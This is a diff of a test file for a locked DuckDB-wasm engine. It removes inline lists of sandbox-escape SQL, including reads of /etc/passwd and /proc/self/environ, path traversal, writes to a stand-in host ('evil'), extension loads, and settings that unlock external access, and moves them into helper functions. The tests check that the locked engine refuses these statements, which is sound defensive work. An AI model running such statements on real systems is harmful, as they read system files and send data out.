@@ -5,102 +5,14 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { DuckDBConnection } from '@duckdb/duckdb-wasm/blocking';
 import type { Engine, FailureKind } from '../../../src/engine/contract.ts';
 import { nodeHost, queryRows, startNodeEngine, valueOf } from '../node-engine.ts';
+import { changesOutside, readsOutside } from './reaching-out.ts';
 
 /**
- * Statements that read or write outside the tab, or would open the way to it. None runs in a locked engine;
- * the control at the end shows that the same kinds of statement do reach out of an engine without the lock.
+ * None of the statements that reach out runs in a locked engine; the control at the end shows that the same kinds of statement do reach out of an engine without the lock.
  */
 const evil = 'http://127.0.0.1:9/x';
-const reads = [
-  `FROM read_csv('${evil}.csv')`,
-  `FROM read_csv_auto('${evil}.csv')`,
-  `FROM read_csv(['${evil}.csv', '${evil}.csv'])`,
-  `FROM read_text('${evil}.txt')`,
-  `FROM read_blob('${evil}.bin')`,
-  `FROM read_json('${evil}.json')`,
-  `FROM read_json_auto('${evil}.json')`,
-  `FROM read_ndjson('${evil}.json')`,
-  `FROM read_parquet('${evil}.parquet')`,
-  `FROM parquet_scan('${evil}.parquet')`,
-  `FROM parquet_metadata('${evil}.parquet')`,
-  `FROM '${evil}.csv'`,
-  `FROM '${evil}.parquet'`,
-  `FROM '${evil}.json'`,
-  `SELECT * FROM "${evil}.csv"`,
-  `FROM glob('${evil}*')`,
-  `FROM sniff_csv('${evil}.csv')`,
-  `FROM read_csv('https://127.0.0.1:9/x.csv')`,
-  `FROM read_csv('s3://bucket/x.csv')`,
-  `FROM read_csv('gcs://bucket/x.csv')`,
-  `FROM read_csv('r2://bucket/x.csv')`,
-  `FROM read_csv('hf://datasets/x.csv')`,
-  `FROM read_csv('opfs://x.csv')`,
-  `FROM read_csv('file:///etc/passwd')`,
-  `FROM read_csv('/etc/passwd')`,
-  `FROM read_text('/etc/passwd')`,
-  `FROM read_blob('/proc/self/environ')`,
-  `FROM read_csv('etc/passwd')`,
-  `FROM read_csv('../../../etc/passwd')`,
-  `FROM read_csv('/data/../etc/passwd')`,
-  `FROM read_text('/data/../../etc/passwd')`,
-  `FROM read_text('\\data\\..\\etc\\passwd')`,
-  `FROM read_text('/DATA/x')`,
-  `FROM read_text('/data')`,
-  `FROM read_text('/database/x')`,
-  `FROM read_text('http:/data/x')`,
-  `FROM read_text('http://127.0.0.1:9/data/x')`,
-  `FROM read_text('file:/data/../etc/passwd')`,
-  `FROM glob('/etc/*')`,
-  `FROM glob('/data/../etc/*')`,
-  `FROM read_csv(getvariable('u'))`,
-  `FROM query('FROM read_csv(''${evil}'')')`,
-  `FROM query_table(['${evil}.csv'])`,
-  `WITH x AS (FROM read_csv('${evil}')) FROM x`,
-  `SELECT (SELECT count(*) FROM read_csv('${evil}'))`,
-  `SELECT 1 WHERE EXISTS (FROM read_text('${evil}'))`,
-  `PIVOT (FROM read_csv('${evil}')) ON a`,
-  `SUMMARIZE FROM read_csv('${evil}')`,
-  `DESCRIBE FROM read_csv('${evil}')`,
-  `EXPLAIN ANALYZE FROM read_csv('${evil}')`,
-];
-const statements = [
-  `COPY (SELECT 1) TO '${evil}.csv'`,
-  `COPY (SELECT 1) TO 's3://bucket/x.csv'`,
-  `COPY (SELECT 1) TO '/tmp/x.csv'`,
-  `COPY (SELECT 1) TO '/data/x.csv'`,
-  `COPY kept FROM '${evil}.csv'`,
-  `EXPORT DATABASE '${evil}'`,
-  `EXPORT DATABASE '/data/x'`,
-  `IMPORT DATABASE '${evil}'`,
-  `ATTACH '${evil}.db' AS x`,
-  `ATTACH '/tmp/x.db' AS x`,
-  `ATTACH ':memory:' AS x`,
-  `DETACH big`,
-  `USE big`,
-  `INSTALL httpfs`,
-  `INSTALL x FROM '${evil}'`,
-  `FORCE INSTALL json`,
-  `LOAD json`,
-  `LOAD '${evil}/x.duckdb_extension.wasm'`,
-  `UPDATE EXTENSIONS`,
-  `SET enable_external_access=true`,
-  `SET GLOBAL allowed_directories=['/']`,
-  `RESET enable_external_access`,
-  `RESET lock_configuration`,
-  `SET lock_configuration=false`,
-  `SET s3_endpoint='127.0.0.1:9'`,
-  `SET custom_extension_repository='${evil}'`,
-  `SET VARIABLE u = '${evil}'`,
-  `PRAGMA enable_external_access=true`,
-  `PRAGMA database_list`,
-  `PRAGMA enable_logging`,
-  `CALL enable_logging()`,
-  `CREATE SECRET s (TYPE s3, KEY_ID 'x', SECRET 'y')`,
-  `CREATE VIEW v AS FROM read_csv('${evil}')`,
-  `CREATE MACRO m() AS 1`,
-  `PREPARE p AS FROM read_csv('${evil}')`,
-  `EXECUTE p`,
-];
+const reads = readsOutside(evil);
+const statements = changesOutside(evil);
 
 let engine: Engine;
 beforeAll(async () => {
